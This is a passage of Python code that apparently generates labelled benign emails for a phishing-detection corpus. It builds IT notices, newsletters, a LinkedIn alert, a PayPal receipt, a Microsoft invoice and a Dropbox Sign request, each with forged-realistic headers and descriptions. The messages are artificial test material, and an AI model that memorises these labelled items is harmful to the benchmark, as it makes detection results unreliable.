Starting <b>Friday, March 14</b>, Okta Verify will ask you to match a number on your phone when you sign in to Okta, Outlook or Teams from a new device. For most people nothing else changes and <b>no action is needed</b>.
 
What to expect:
&bull; You will see a two-digit number on your screen; tap the same number in Okta Verify.
&bull; If you got a new phone recently, stop by the IT office (Building A, room 114) or book a slot on the <a href="{faq}">MFA FAQ page</a> and we will move Okta Verify over with you in person.
 
Important: IT will never email you a QR code, a link to "re-enroll" your MFA, or ask you for a verification code by email, phone or Teams. If you get a message like that, please use the Report button in Outlook.
 
Thanks,
Brian Lutz
IT Systems Administrator | Brackenridge Fluid Systems, Inc.
(614) 555-0100 x2210""")
    html = outlook_desktop_html(inner)
    plain = ("Hi everyone,\n\nStarting Friday, March 14, Okta Verify will ask you to match a number on your phone when you sign "
             "in to Okta, Outlook or Teams from a new device. For most people nothing else changes and no action is needed.\n\n"
             "What to expect:\n- You will see a two-digit number on your screen; tap the same number in Okta Verify.\n- If you "
             "got a new phone recently, stop by the IT office (Building A, room 114) or book a slot on the MFA FAQ page "
             f"<{faq}> and we will move Okta Verify over with you in person.\n\nImportant: IT will never email you a QR code, a "
             "link to \"re-enroll\" your MFA, or ask you for a verification code by email, phone or Teams. If you get a message "
             "like that, please use the Report button in Outlook.\n\nThanks,\nBrian Lutz\nIT Systems Administrator | "
             "Brackenridge Fluid Systems, Inc.\n(614) 555-0100 x2210\n")
    subj = "MFA update: Okta Verify number matching starts March 14 (no action needed for most people)"
    hdr = f"""From: IT Service Desk <servicedesk@{US}>
Sender: Brian Lutz <{sender}>
To: All Staff US <AllStaffUS@{US}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(m.when)}
Message-ID: {ms_msgid(smbx_f, s + 'mid')}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels: MSIP_Label_{guid('label-general-us')}_Enabled=True"""
    add(m, emit_internal(m, sender, hdr, alt(plain, html, bnd(s))))


def l15_it_uk_authenticator_qr():
    rcpt = f"james.whitlock@{UK}"
    sender = f"neil.barraclough@{UK}"
    m = Mail("legit-it-uk-authenticator-setup-qr-internal", "clean",
             "Internal UK IT message (sent inside the tenant) for warehouse staff getting shared handhelds, with an inline "
             "QR code that only opens Microsoft's own aka.ms/mfasetup page and drop-in sessions on site; a legitimate "
             "QR-in-body MFA mail.",
             "uk", utc(2025, 9, 15, 7, 30, 41), rcpt)
    s = m.stem
    _, _, smbx_f = internal(m, sender)
    png = files.qr_png("https://aka.ms/mfasetup")
    cid = f"image001.png@01DC{HX(s + 'cid1', 4)}.{HX(s + 'cid2', 8)}"
    inner = ms_paras("""Morning all,
 
The new warehouse handhelds go live on Monday 29 September. Before then, everyone in Goods In, Picking and Dispatch needs Microsoft Authenticator set up on their work phone so you can sign in to the scanner app.
 
The easiest way is to come to one of the drop-in sessions in the canteen (Tue 23 and Thu 25 Sept, 10:00-14:00) and we will do it with you. If you would rather do it yourself, the QR code below just opens Microsoft's own setup page, aka.ms/mfasetup (the same as typing it into your phone's browser):
 
<img width="150" height="150" src="cid:""" + cid + """" alt="aka.ms/mfasetup">
 
Nobody from IT will ever ask you for the code shown in the app.
 
Cheers,
Neil
 
Neil Barraclough
IT Support, UK | Brackenridge Fluid Systems UK Ltd
Ext. 4417""")
    html = outlook_desktop_html(inner).replace('lang="EN-US"', 'lang="EN-GB"')
    plain = ("Morning all,\n\nThe new warehouse handhelds go live on Monday 29 September. Before then, everyone in Goods In, "
             "Picking and Dispatch needs Microsoft Authenticator set up on their work phone so you can sign in to the scanner "
             "app.\n\nThe easiest way is to come to one of the drop-in sessions in the canteen (Tue 23 and Thu 25 Sept, "
             "10:00-14:00) and we will do it with you. If you would rather do it yourself, the QR code below just opens "
             "Microsoft's own setup page, aka.ms/mfasetup (the same as typing it into your phone's browser):\n\n[aka.ms/mfasetup]"
             "\n\nNobody from IT will ever ask you for the code shown in the app.\n\nCheers,\nNeil\n\nNeil Barraclough\nIT "
             "Support, UK | Brackenridge Fluid Systems UK Ltd\nExt. 4417\n")
    body = qr_related_html(html, plain, png, cid, s)
    subj = "Warehouse handhelds: set up Microsoft Authenticator before 29 September"
    hdr = f"""From: Neil Barraclough <{sender}>
To: UK Warehouse Team <UKWarehouse@{UK}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(m.when)}
Message-ID: {ms_msgid(smbx_f, s + 'mid')}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:"""
    add(m, emit_internal(m, sender, hdr, body))


def l16_industry_newsletter():
    rcpt = f"megan.trask@{US}"
    m = Mail("legit-supply-chain-dive-newsletter", "bulk",
             "Supply Chain Dive daily newsletter the procurement manager subscribed to, with every link wrapped in the "
             "publisher's click-tracking redirect, an open pixel, List-Unsubscribe headers and bulk-mail authentication.",
             "us", utc(2025, 9, 23, 10, 32, 17), rcpt)
    s = m.stem
    ip = f"192.64.{num(s + 'ip', 236, 239)}.{num(s + 'ip2', 2, 250)}"
    p = generic_block(m, ip=ip, helo=f"mta-{num(s + 'h', 100, 250)}.divenewsletter.com", mailfrom="mail.divenewsletter.com",
                      dkim_d="divenewsletter.com", selector="sailthru", return_path=f"<bounce-{hx(s + 'rp', 24)}@mail.divenewsletter.com>",
                      h="Content-Type:List-Unsubscribe:Message-ID:Mime-Version:Date:Subject:To:From", size=128,
                      post=f"X-TM-ID: {num(s + 'tm', 20250000000000, 20259999999999)}.{num(s + 'tm2', 100, 999)}\nX-Info: Message sent by sailthru.com customer Industry Dive\nX-Info: We do not permit unsolicited commercial email\nX-Info: Please report abuse by forwarding complete headers to\nX-Info: abuse@sailthru.com\nX-Mailer: sailthru.com\nX-Unsubscribe-Web: https://link.divenewsletter.com/oc/{hx(s + 'oc', 24)}/{hx(s + 'oc2', 8)}\nFeedback-ID: {num(s + 'fb', 1000, 9999)}:{num(s + 'fb2', 1000000, 9999999)}:sailthru")
    p["bcl"] = 5
    def trk(n: int) -> str:
        return f"https://link.divenewsletter.com/click/{num(s + 'c' + str(n), 30000000, 39999999)}.{num(s + 'd', 100000, 999999)}/{b64url_text('https://www.supplychaindive.com/news/' + str(n))[:40]}/{hx(s + 'e' + str(n), 24)}B{hx(s + 'f' + str(n), 8)}"
    stories = [("Freight", "Truckload spot rates tick up as capacity tightens ahead of peak season",
                "Contract rates remain flat, but carriers report fewer loads rejected as small fleets exit the market."),
               ("Procurement", "Manufacturers lengthen supplier qualification to cope with tariff uncertainty",
                "A survey of 300 procurement leaders found dual-sourcing programs now take an average of 7 months."),
               ("Operations", "How one pump maker cut expediting costs by 40% with supplier scorecards",
                "Weekly on-time delivery reviews moved late POs from firefighting to prevention.")]
    items = "".join(f"""<tr><td style="padding:18px 0;border-bottom:1px solid #e2e2e2"><div style="font-size:11px;letter-spacing:1px;color:#d23c2b;text-transform:uppercase">{c}</div>
<a href="{trk(i)}" style="font-size:19px;line-height:25px;color:#111111;text-decoration:none;font-weight:bold">{t}</a>
<p style="font-size:14px;line-height:21px;color:#444444;margin:6px 0 0 0">{d}</p></td></tr>""" for i, (c, t, d) in enumerate(stories))
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Supply Chain Dive</title></head>
<body style="margin:0;padding:0;background:#f3f3f3">
<div style="display:none;max-height:0;overflow:hidden">Spot rates tick up; supplier qualification stretches to 7 months</div>
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="620" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Georgia,'Times New Roman',serif">
<tr><td style="padding:20px 30px;border-bottom:3px solid #111111"><a href="{trk(9)}"><img src="https://www.supplychaindive.com/static/img/newsletter/scd-logo-email.png" alt="Supply Chain Dive" width="220" border="0"></a><div style="font-family:Arial,sans-serif;font-size:12px;color:#777777;padding-top:6px">Tuesday, September 23, 2025</div></td></tr>
<tr><td style="padding:0 30px"><table width="100%" cellpadding="0" cellspacing="0" border="0">{items}</table></td></tr>
<tr><td style="padding:22px 30px;font-family:Arial,sans-serif;font-size:11px;color:#888888;line-height:17px">You are receiving this email because you subscribed to Supply Chain Dive.<br>
<a href="https://link.divenewsletter.com/oc/{hx(s + 'oc', 24)}/{hx(s + 'oc2', 8)}" style="color:#888888">Unsubscribe</a> | <a href="{trk(10)}" style="color:#888888">Manage subscriptions</a> | <a href="{trk(11)}" style="color:#888888">Privacy policy</a><br>
Industry Dive, 1255 23rd St NW, Suite 550, Washington, DC 20037</td></tr>
</table></td></tr></table>
<img src="https://link.divenewsletter.com/img/{hx(s + 'img', 24)}/{hx(s + 'img2', 8)}/blank.gif" width="1" height="1" alt="" border="0"></body></html>"""
    plain = ("SUPPLY CHAIN DIVE - Tuesday, September 23, 2025\n\n" + "\n\n".join(f"{c.upper()}\n{t}\n{d}\n{trk(i)}" for i, (c, t, d) in enumerate(stories))
             + f"\n\nUnsubscribe: https://link.divenewsletter.com/oc/{hx(s + 'oc', 24)}/{hx(s + 'oc2', 8)}\nIndustry Dive, 1255 23rd St NW, Suite 550, Washington, DC 20037\n")
    hdr = f"""From: "Supply Chain Dive" <newsletter@divenewsletter.com>
To: megan.trask@{US}
Subject: Spot rates tick up | Supplier qualification stretches to 7 months
Date: {fmt(p['sent'])}
Message-ID: <{num(s + 'mid', 20250000000000, 20259999999999)}.{hx(s + 'mid2', 20)}@mail.divenewsletter.com>
Mime-Version: 1.0
List-Unsubscribe: <https://link.divenewsletter.com/oc/{hx(s + 'oc', 24)}/{hx(s + 'oc2', 8)}>, <mailto:{hx(s + 'lu', 24)}@unsub.divenewsletter.com>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "hyph"))))


def l17_linkedin_notification():
    rcpt = f"oliver.kettering@{UK}"
    m = Mail("legit-linkedin-profile-views-notification", "bulk",
             "LinkedIn notification ('you appeared in 14 searches this week') to the UK sales director's work address, "
             "from LinkedIn's own mail servers with its tracking links, List-Unsubscribe and bulk headers.",
             "uk", utc(2025, 6, 18, 6, 5, 33), rcpt)
    s = m.stem
    ip = f"108.174.{num(s + 'ip', 3, 6)}.{num(s + 'ip2', 100, 250)}"
    helo = f"mailb-{['ac', 'ad', 'ae', 'dc'][num(s + 'h', 0, 3)]}.linkedin.com"
    p = generic_block(m, ip=ip, helo=helo, mailfrom="bounce.linkedin.com", dkim_d="linkedin.com", selector="d2048-2021-q4",
                      return_path=f"<s-{alnum(s + 'rp', 40)}@bounce.linkedin.com>",
                      h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post",
                      post="X-LinkedIn-Class: EMAIL-DEFAULT\nX-LinkedIn-Template: email_search_appearance_01\n"
                           f"X-LinkedIn-fbl: s-{alnum(s + 'fbl', 40)}\nX-LinkedIn-Id: {alnum(s + 'lid', 10)}-{alnum(s + 'lid2', 8)}\n"
                           f"Feedback-ID: 10001:{alnum(s + 'fb', 10)}:linkedin")
    p["bcl"] = 4
    p["ctry"] = "US"
    def trk(path: str, n: int) -> str:
        return (f"https://www.linkedin.com/comm/{path}?lipi=urn%3Ali%3Apage%3Aemail_email_search_appearance_01%3B{alnum(s + 'lipi' + str(n), 22)}"
                f"%3D%3D&midToken=AQ{alnum(s + 'mt', 20)}&midSig={alnum(s + 'ms', 14)}&trk=eml-email_search_appearance_01-{n}&trkEmail=eml-email_search_appearance_01-null-{n}-null-null-{alnum(s + 'te', 6)}~m{alnum(s + 'te2', 8)}")
    html = f"""<!DOCTYPE html><html lang="en" xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f3f2ef">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px 8px">
<table role="presentation" width="512" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:-apple-system,system-ui,BlinkMacSystemFont,'Segoe UI',Roboto,'Helvetica Neue',Arial,sans-serif;color:#191919">
<tr><td style="padding:20px 24px"><a href="{trk('feed/', 1)}"><img src="https://static.licdn.com/aero-v1/sc/h/9ehe6n39fa07dc5edzv0rla4e" width="84" height="21" alt="LinkedIn" border="0"></a></td></tr>
<tr><td style="padding:8px 24px;font-size:20px;line-height:26px;font-weight:600">You appeared in 14 searches this week</td></tr>
<tr><td style="padding:6px 24px;font-size:14px;line-height:21px;color:#666666">Searchers found you through: <b>Sales Director</b>, <b>Fluid handling</b>, <b>Brackenridge Fluid Systems</b></td></tr>
<tr><td style="padding:16px 24px"><a href="{trk('me/search-appearances/', 2)}" style="background:#0a66c2;color:#ffffff;font-size:16px;font-weight:600;text-decoration:none;padding:10px 22px;border-radius:24px;display:inline-block">See all searches</a></td></tr>
<tr><td style="padding:18px 24px;font-size:12px;line-height:16px;color:#666666;border-top:1px solid #e8e8e8">This email was intended for Oliver Kettering (Sales Director UK at Brackenridge Fluid Systems)<br>
<a href="{trk('psettings/email/', 3)}" style="color:#666666">Unsubscribe</a> &middot; <a href="https://www.linkedin.com/help/linkedin/answer/4788" style="color:#666666">Help</a><br>&copy; 2025 LinkedIn Corporation, 1&zwnj;000 West Maude Avenue, Sunnyvale, CA 94085. LinkedIn and the LinkedIn logo are registered trademarks of LinkedIn.</td></tr>
</table></td></tr></table>
<img src="https://www.linkedin.com/emimp/ip_{alnum(s + 'imp', 60)}.gif" style="width:1px;height:1px" alt=""></body></html>"""
    plain = ("You appeared in 14 searches this week\n\nSearchers found you through: Sales Director, Fluid handling, Brackenridge "
             f"Fluid Systems\n\nSee all searches: {trk('me/search-appearances/', 2)}\n\nThis email was intended for Oliver "
             f"Kettering (Sales Director UK at Brackenridge Fluid Systems)\nUnsubscribe: {trk('psettings/email/', 3)}\n"
             "(c) 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.\n")
    hdr = f"""Date: {fmt(p['sent'])}
From: LinkedIn <notifications-noreply@linkedin.com>
Reply-To: LinkedIn <notifications-noreply@linkedin.com>
To: Oliver Kettering <{rcpt}>
Message-ID: <{num(s + 'mid', 1000000000, 1999999999)}.{num(s + 'mid2', 1000000, 9999999)}.{ts(p['sent'])}{num(s + 'ms', 100, 999)}@lor1-app{num(s + 'app', 10000, 99999)}.prod.linkedin.com>
Subject: You appeared in 14 searches this week
MIME-Version: 1.0
List-Unsubscribe: <{trk('psettings/email-unsubscribe', 4)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-Auto-Response-Suppress: All"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l18_mailchimp_forum_newsletter():
    rcpt = f"graham.fenwick@{UK}"
    m = Mail("legit-mailchimp-manufacturing-forum-newsletter", "bulk",
             "Monthly members' newsletter of a regional manufacturing forum sent through Mailchimp (mcsv.net envelope, "
             "list-manage.com click tracking, open pixel, one-click unsubscribe) to the UK managing director.",
             "uk", utc(2025, 11, 26, 8, 0, 19), rcpt)
    s = m.stem
    ip = f"198.2.{num(s + 'ip', 128, 191)}.{num(s + 'ip2', 2, 250)}"
    helo = f"mail{num(s + 'h', 100, 250)}.suw{num(s + 'suw', 11, 121)}.mcdlv.net"
    u = hx(s + "u", 25)
    lid = hx(s + "lid", 10)
    e = hx(s + "e", 10)
    p = generic_block(m, ip=ip, helo=helo, mailfrom="mail" + helo.split(".", 1)[0][4:] + ".suw" + helo.split(".suw")[1].split(".")[0] + ".mcsv.net",
                      dkim_d="wymforum.org.uk", selector="k2",
                      return_path=f"<bounce-mc.us21_{num(s + 'uid', 100000000, 199999999)}.{num(s + 'cid', 1000000, 9999999)}-{e}@{helo.replace('mcdlv', 'mcsv')}>",
                      h="Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC",
                      post=f"X-MC-User: {u}\nX-Feedback-ID: {num(s + 'uid', 100000000, 199999999)}:{num(s + 'uid', 100000000, 199999999)}.{num(s + 'cid', 1000000, 9999999)}:us21:mc\n"
                           f"X-Mailer: Mailchimp Mailer - **CID{hx(s + 'cidh', 20)}{e}**\nX-Campaign: mailchimp{u}.{hx(s + 'camp', 10)}\n"
                           f"X-campaignid: mailchimp{u}.{hx(s + 'camp', 10)}\nX-Accounttype: pd")
    p["mailfrom"] = helo.replace("mcdlv", "mcsv")
    p["dmarc"] = "pass"
    p["bcl"] = 6
    p["ctry"] = "US"
    sig2 = dkim("mailchimpapp.net", "k3", "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe", s + "mc2",
                t=ts(p["sent"]), style="space", size=128)
    p["pre"] = p["pre"] + "\n" + sig2 + f"\nReceived: from localhost (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTP id {alnum(s + 'q', 12)}\n\tfor <{rcpt}>; {fmt(p['sent'])}"
    def trk(n: int) -> str:
        return f"https://wymforum.us21.list-manage.com/track/click?u={u}&id={hx(s + 'c' + str(n), 10)}&e={e}"
    unsub = f"https://wymforum.us21.list-manage.com/unsubscribe?u={u}&id={lid}&t=b&e={e}&c={hx(s + 'camp', 10)}"
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=edge"><meta name="viewport" content="width=device-width, initial-scale=1"><title>November Members' Update</title>
<style type="text/css">p{{margin:10px 0;padding:0;}}table{{border-collapse:collapse;}}h1,h2{{display:block;margin:0;padding:0;}}img,a img{{border:0;height:auto;outline:none;text-decoration:none;}}body,#bodyTable,#bodyCell{{height:100%;margin:0;padding:0;width:100%;}}</style></head>
<body><span class="mcnPreviewText" style="display:none !important;font-size:0px;line-height:0px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;visibility:hidden;mso-hide:all">Skills bootcamp places, energy cost workshop and our Christmas networking lunch</span>
<center><table align="center" border="0" cellpadding="0" cellspacing="0" height="100%" width="100%" id="bodyTable" style="background-color:#eeeeee"><tr><td align="center" valign="top" id="bodyCell" style="padding:10px">
<table border="0" cellpadding="0" cellspacing="0" width="600" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#202020">
<tr><td style="padding:18px"><img src="https://mcusercontent.com/{u}/images/{guid(s + 'img')}.png" width="564" alt="West Yorkshire Manufacturing Forum" style="max-width:564px"></td></tr>
<tr><td style="padding:0 18px 9px 18px"><h1 style="font-size:22px;color:#1d3a5f">November Members' Update</h1>
<p style="font-size:15px;line-height:150%">Dear Graham,</p>
<p style="font-size:15px;line-height:150%">Thank you to everyone who joined our October plant visit. Here is what is coming up before the end of the year.</p>
<h2 style="font-size:17px;color:#1d3a5f;margin-top:18px">Funded skills bootcamp places</h2><p style="font-size:15px;line-height:150%">Twenty funded places remain on the CNC and maintenance engineering bootcamp starting in January. <a href="{trk(1)}" style="color:#2a7ab0">Find out more and apply</a>.</p>
<h2 style="font-size:17px;color:#1d3a5f;margin-top:18px">Energy cost workshop, 4 December</h2><p style="font-size:15px;line-height:150%">Practical steps on compressed air leaks, heat recovery and contract renewals. <a href="{trk(2)}" style="color:#2a7ab0">Book your place</a>.</p>
<h2 style="font-size:17px;color:#1d3a5f;margin-top:18px">Christmas networking lunch</h2><p style="font-size:15px;line-height:150%">Friday 12 December at the Leeds Marriott. <a href="{trk(3)}" style="color:#2a7ab0">Reserve a table</a>.</p></td></tr>
<tr><td style="padding:18px;background:#f4f4f4;font-size:12px;color:#656565;line-height:150%;text-align:center"><em>Copyright &copy; 2025 West Yorkshire Manufacturing Forum, All rights reserved.</em><br>You are receiving this email because your company is a member of the Forum.<br><br>
<strong>Our mailing address is:</strong><br>West Yorkshire Manufacturing Forum, 2 Wellington Place, Leeds LS1 4AP, United Kingdom<br><br>
Want to change how you receive these emails?<br>You can <a href="https://wymforum.us21.list-manage.com/profile?u={u}&id={lid}&e={e}&c={hx(s + 'camp', 10)}" style="color:#656565">update your preferences</a> or <a href="{unsub}" style="color:#656565">unsubscribe from this list</a>.<br><br>
<a href="http://www.mailchimp.com/email-referral/?utm_source=freemium_newsletter&utm_medium=email&utm_campaign=referral_marketing&aid={u}&afl=1"><img src="https://cdn-images.mailchimp.com/monkey_rewards/intuit-mc-rewards-text-dark.svg" width="130" alt="Intuit Mailchimp"></a></td></tr>
</table></td></tr></table></center>
<img src="https://wymforum.us21.list-manage.com/track/open.php?u={u}&id={hx(s + 'camp', 10)}&e={e}" height="1" width="1" alt=""></body></html>"""
    plain = ("** November Members' Update\n------------------------------------------------------------\nDear Graham,\n\nThank you "
             "to everyone who joined our October plant visit. Here is what is coming up before the end of the year.\n\n"
             f"** Funded skills bootcamp places\nTwenty funded places remain on the CNC and maintenance engineering bootcamp "
             f"starting in January. Find out more and apply ({trk(1)})\n\n** Energy cost workshop, 4 December\nBook your place "
             f"({trk(2)})\n\n** Christmas networking lunch\nFriday 12 December at the Leeds Marriott. Reserve a table ({trk(3)})\n\n"
             "============================================================\nCopyright (C) 2025 West Yorkshire Manufacturing "
             f"Forum, All rights reserved.\n\nunsubscribe from this list ({unsub})\n")
    hdr = f"""Subject: {enc("November Members' Update – bootcamps, energy workshop, Christmas lunch", q=True)}
From: West Yorkshire Manufacturing Forum <hello@wymforum.org.uk>
Reply-To: West Yorkshire Manufacturing Forum <hello@wymforum.org.uk>
To: Graham <{rcpt}>
Date: {fmt(p['sent'])}
Message-ID: <{hx(s + 'mid', 20)}.{hx(s + 'mid2', 20)}@mail{helo.split('.')[0][4:]}.suw{helo.split('.suw')[1].split('.')[0]}.mcdlv.net>
List-ID: {u}mc list <{u}.{num(s + 'lid2', 100000, 999999)}.list-id.mcsv.net>
List-Unsubscribe: <https://wymforum.us21.list-manage.com/unsubscribe?u={u}&id={lid}&t=b&e={e}&c={hx(s + 'camp', 10)}>, <mailto:unsubscribe-mc.us21_{u}.{hx(s + 'camp', 10)}-{e}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, f"_----------={hx(s + 'b', 24)}")))


def l19_personal_gmail_photos():
    rcpt = f"kevin.dobbs@{US}"
    m = Mail("legit-personal-gmail-lake-photos", "clean",
             "Personal mail from the facilities manager's sister on Gmail with two holiday photos attached as JPEGs and "
             "a short note; the kind of personal mail staff receive at work.",
             "us", utc(2025, 7, 7, 23, 41, 8), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="gmail.com", gmail=True)
    html = gmail_html("<div>Hey Kev,</div><div><br></div><div>Finally got the pictures off my phone. The one of the boys with the "
                      "walleye is going on the fridge. Mom wants prints of both for her birthday so don't forget!</div><div><br>"
                      "</div><div>Same cabin next year? I already asked Jim about the 4th week.</div><div><br></div><div>Love,</div>"
                      "<div>Beth</div>")
    plain = ("Hey Kev,\n\nFinally got the pictures off my phone. The one of the boys with the walleye is going on the fridge. "
             "Mom wants prints of both for her birthday so don't forget!\n\nSame cabin next year? I already asked Jim about "
             "the 4th week.\n\nLove,\nBeth\n")
    parts = [alt(plain, html, bnd(s + "a", "gmail"))]
    for i, name in enumerate(["IMG_4821.jpg", "IMG_4836.jpg"]):
        cid = f"f_{lower_alnum(s + 'cid' + str(i), 11)}{i}"
        parts.append(Leaf("image/jpeg", files.photo_jpeg(num(s + str(i), 1, 99)), "base64", f'; name="{name}"',
                          f'attachment; filename="{name}"', [f"Content-ID: <{cid}>", f"X-Attachment-Id: {cid}"]))
    body = Multi("mixed", bnd(s, "gmail"), parts)
    hdr = f"""MIME-Version: 1.0
From: Beth Dobbs <bethanndobbs@gmail.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Lake pics!!
To: Kevin Dobbs <{rcpt}>"""
    add(m, emit_parts(m, p, hdr, body))


def l20_paypal_receipt():
    rcpt = f"brian.lutz@{US}"
    m = Mail("legit-paypal-payment-receipt", "clean",
             "Genuine PayPal receipt (service@paypal.com) for a $64.99 payment the employee made to a local print shop, "
             "with PayPal's real links and footer; the same sender as the abused PayPal invoice in the attack set.",
             "us", utc(2025, 12, 5, 1, 17, 42), rcpt)
    s = m.stem
    p = paypal_block(m)
    tid = f"{num(s + 't1', 1, 9)}{HX(s + 'tid', 16)}"
    link = f"https://www.paypal.com/myaccount/transaction/details/{tid}"
    html = paypal_html("You sent $64.99 USD to Lakeside Print Shop",
                       [("Transaction ID", tid), ("Transaction date", "December 4, 2025"), ("Sent to", "Lakeside Print Shop"),
                        ("Paid with", "PayPal balance"), ("Total", "$64.99 USD")],
                       "", "", "View transaction details", link)
    plain = (f"You sent $64.99 USD to Lakeside Print Shop\n\nTransaction ID: {tid}\nTransaction date: December 4, 2025\n"
             f"Sent to: Lakeside Print Shop\nPaid with: PayPal balance\nTotal: $64.99 USD\n\nView transaction details: {link}\n\n"
             "Copyright (c) 1999-2025 PayPal, Inc. All rights reserved.\n")
    hdr = f"""Date: {fmt(p['sent'], pt_off(p['sent'])[0])}
Message-ID: <{hx(s + 'ppid', 13)}.{num(s + 'ppn', 1000000000000000, 9999999999999999)}@paypal.com>
From: "service@paypal.com" <service@paypal.com>
To: Brian Lutz <{rcpt}>
Subject: Receipt for your payment to Lakeside Print Shop
MIME-Version: 1.0
X-MaxCode-Template: PPC000595
X-Email-Type-Id: PPC000595
PP-Correlation-Id: {hx(s + 'corr', 13)}
X-XPT-XSL-Name: nodeMailer"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l21_microsoft_invoice():
    rcpt = f"brian.lutz@{US}"
    m = Mail("legit-microsoft-365-invoice-ready", "clean",
             "Genuine Microsoft billing notice to the company's Microsoft 365 billing administrator that the monthly "
             "invoice is available in the admin center; the organisation name is the company's own.",
             "us", utc(2025, 9, 1, 11, 4, 27), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="microsoft.com", sender="microsoft-noreply@microsoft.com")
    p["msgid"] = f"<{guid(s + 'mcid')}@az.westus2.microsoft.com>"
    p["post"] = ""
    inv = f"G{num(s + 'inv', 100000000, 999999999)}"
    link = "https://admin.microsoft.com/Adminportal/Home#/billoverview/invoice-list"
    html = ms_commerce_html("Your invoice is ready",
                            "The invoice for your organization, <b>Brackenridge Fluid Systems, Inc.</b>, is now available. "
                            "The amount will be charged to the payment method on file.",
                            [("Organization", "Brackenridge Fluid Systems, Inc."), ("Billing account", "Brackenridge Fluid Systems, Inc."),
                             ("Invoice number", inv), ("Billing period", "8/1/2025 - 8/31/2025"),
                             ("Amount", "USD 41,288.16"), ("Payment method", "Invoice (check/wire)")],
                            "View invoice", link,
                            "This is a mandatory service communication. You are receiving this email because you are a billing "
                            "administrator for Brackenridge Fluid Systems, Inc.")
    plain = ("Your invoice is ready\n\nThe invoice for your organization, Brackenridge Fluid Systems, Inc., is now available. "
             f"The amount will be charged to the payment method on file.\n\nInvoice number: {inv}\nBilling period: 8/1/2025 - "
             f"8/31/2025\nAmount: USD 41,288.16\n\nView invoice <{link}>\n\nMicrosoft Corporation, One Microsoft Way, Redmond, "
             "WA 98052 USA\n")
    hdr = f"""From: Microsoft <microsoft-noreply@microsoft.com>
To: <{rcpt}>
Subject: Your Microsoft invoice {inv} is ready
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}
X-MS-Exchange-Organization-MessageCategory: Commerce"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l22_dropboxsign_customer():
    rcpt = f"ashley.monroe@{US}"
    m = Mail("legit-dropboxsign-customer-nda", "clean",
             "Genuine Dropbox Sign signature request (noreply@mail.hellosign.com) from a water-authority customer "
             "asking the sales rep to sign a mutual NDA before a bid meeting; real app.hellosign.com link.",
             "us", utc(2025, 10, 22, 14, 15, 50), rcpt)
    s = m.stem
    p = sendgrid_block(m, "mail.hellosign.com", "em")
    p["mailfrom"] = "em.mail.hellosign.com"
    link = f"https://app.hellosign.com/sign/{hx(s + 'sig', 40)}?email={rcpt.replace('@', '%40')}&utm_source=email&utm_medium=signer_request"
    html = f"""<!DOCTYPE html><html><head><meta charset="UTF-8"><title>Dropbox Sign</title></head>
<body style="background:#f7f5f2;margin:0;padding:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 8px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;color:#1e1919">
<tr><td style="padding:28px 36px 8px 36px"><img src="https://cfl.dropboxstatic.com/static/images/logo_catalog/dropbox_sign_logo_m1.png" alt="Dropbox Sign" height="28"></td></tr>
<tr><td style="padding:18px 36px 6px 36px;font-size:22px;line-height:30px"><b>Renee Castillo</b> has requested your signature on<br>"Mutual NDA - Lakemont Water Authority / Brackenridge Fluid Systems"</td></tr>
<tr><td style="padding:12px 36px;font-size:15px;line-height:22px;color:#52504d">Message from Renee Castillo:<br><i>"Ashley, as discussed, please sign the NDA before Thursday's pump station walkthrough."</i></td></tr>
<tr><td style="padding:20px 36px 34px 36px"><a href="{link}" style="background:#0061fe;color:#ffffff;font-size:16px;padding:13px 28px;text-decoration:none;border-radius:4px;display:inline-block">Review &amp; sign</a></td></tr>
